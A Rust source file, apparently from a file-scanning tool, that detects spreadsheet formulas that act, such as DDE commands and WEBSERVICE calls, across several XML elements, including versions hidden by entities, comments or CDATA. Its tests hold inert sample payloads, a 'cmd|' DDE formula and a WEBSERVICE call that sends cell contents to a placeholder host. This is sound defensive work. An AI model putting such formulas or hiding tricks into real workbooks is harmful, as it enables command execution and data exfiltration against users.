//! Formulas of sheets and names in packages that do more than compute, ECMA-376-1 18.17.
//!
//! | element | where it stands | clause |
//! |---|---|---|
//! | `f` | a cell; in extensions also what stands in the others | 18.3.1.40 |
//! | `definedName` | a name of the workbook | 18.2.5 |
//! | `formula` | a rule of conditional formatting | 18.3.1.43 |
//! | `cfvo val` | a bound of one | 18.3.1.11 |
//! | `formula1`, `formula2` | a rule for what may be entered | 18.3.1.32 |

use memchr::memchr;

use super::Outside;
use super::elements::{self, Node};
use crate::container::opc::xml;
use crate::limits::{Limit, Spent};
use crate::observe::Ledger;
use crate::project::Load;
use crate::project::formula::{acts_of, may_call};

/// How much of a formula is kept, in bytes. Excel takes 8,192 characters.
const LONGEST: usize = 32_768;
/// What can hide a bar or a call from those who do not read XML. Excel writes neither, apart from
/// the declaration.
const HIDES: &[&str] = &["&#", "<!", "<?"];

/// Looks through the formulas of a sheet, or of the names of a workbook.
pub fn inspect_formulas(part: &[u8], name: &str, found: &mut Outside, ledger: &mut Ledger) {
    let Some(text) = xml::text_of_part(part, name, ledger) else {
        return;
    };
    if !is_of_concern(&text) {
        return;
    }
    let mut formula: Option<String> = None;
    elements::walk(&text, name, ledger, |node, ledger| {
        match node {
            Node::Open(local, element) => {
                let holds = matches!(
                    local,
                    "f" | "definedName" | "formula" | "formula1" | "formula2"
                );
                formula = holds.then(String::new);
                if local == "cfvo" {
                    formula = elements::attribute(element, "val");
                }
            }
            Node::Text(piece) => {
                if let Some(formula) = &mut formula
                    && formula.len() < LONGEST
                {
                    formula.push_str(piece);
                }
            }
            Node::Close => {
                if let Some(formula) = formula.take() {
                    judge(&formula, name, &mut found.loads, ledger)?;
                }
            }
        }
        Ok(())
    });
}

/// Whether anything in the text of a sheet can act, told without reading it as XML: most sheets
/// have not even a bracket.
fn is_of_concern(text: &str) -> bool {
    let text = text.trim_start_matches('\u{FEFF}');
    let text = text.strip_prefix("<?xml").unwrap_or(text);
    // Quotes around a topic are references here, more often than not.
    memchr(b'|', text.as_bytes()).is_some()
        || may_call(text.as_bytes())
        || elements::has(text, HIDES)
}

fn judge(
    formula: &str,
    name: &str,
    found: &mut Vec<Load>,
    ledger: &mut Ledger,
) -> Result<(), Spent> {
    let from = found.len();
    // Other workbooks are told by the parts that link them: here they are numbers.
    acts_of(formula, name, found);
    let new = found.len().saturating_sub(from);
    ledger.charge(Limit::Entries, new as u64)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::limits::Limits;
    use crate::project::LoadKind;

    fn loads(body: &str) -> Vec<(LoadKind, String)> {
        let part = format!("<?xml version='1.0'?><worksheet>{body}<v>1|2!</v></worksheet>");
        let mut ledger = Ledger::new(Limits::mail());
        let mut found = Outside::default();
        inspect_formulas(part.as_bytes(), "sheet1.xml", &mut found, &mut ledger);
        let loads = found.loads.into_iter();
        loads.map(|load| (load.kind, load.target)).collect()
    }

    #[test]
    fn formulas_that_do_more_than_compute() {
        for (formula, kind) in [
            ("cmd|'/c inert'!A0", LoadKind::DdeFormula),
            (
                "_xlfn.WebService(\"https://example.invalid/\"&A1)",
                LoadKind::Formula,
            ),
        ] {
            let text = quick_xml::escape::escape(formula);
            for body in [
                format!("<c r='A1'><f>{text}</f></c>"),
                format!("<cfRule type='expression'><formula>{text}</formula></cfRule>"),
                format!("<cfRule><cfvo type='formula' val=\"{text}\"/></cfRule>"),
                format!("<dataValidation><formula1>{text}</formula1></dataValidation>"),
                format!("<dataValidation><formula2>{text}</formula2></dataValidation>"),
                format!("<x14:cfRule><xm:f>{text}</xm:f></x14:cfRule>"),
                format!("<definedName>{text}</definedName>"),
            ] {
                assert_eq!(loads(&body), [(kind, formula.to_owned())], "{body}");
            }
        }
    }

    #[test]
    fn what_hides_a_call_from_those_who_do_not_read_xml() {
        for formula in [
            "WEBSERVICE&#40;A1)",
            "&#x57;EBSERVICE(A1)",
            "WEB<!-- -->SERVICE(A1)",
            "<![CDATA[WEBSERV]]>ICE(A1)",
            "WEB<?x?>SERVICE(A1)",
        ] {
            let found = loads(&format!("<c><f>{formula}</f></c>"));
            let expected = (LoadKind::Formula, "WEBSERVICE(A1)".to_owned());
            assert_eq!(found, [expected], "{formula}");
        }
    }

    #[test]
    fn a_sheet_full_of_formulas_that_act_is_linear() {
        let cells: String = (0..100_000)
            .map(|number| format!("<f>inert|x!y{number}</f>"))
            .collect();
        let start = std::time::Instant::now();
        assert_eq!(loads(&cells).len(), 100_000);
        assert!(start.elapsed().as_secs() < 20);
    }

    #[test]
    fn ordinary_formulas_load_nothing() {
        for formula in ["A1&amp;\"|\"&amp;B1", "[1]S!A1*2", "SUM(Table1[a])"] {
            assert_eq!(loads(&format!("<c><f>{formula}</f></c>")), [], "{formula}");
        }
        assert!(!is_of_concern(
            "<?xml version='1.0'?><c><f>SUM(A1:B2)</f></c>"
        ));
    }
}
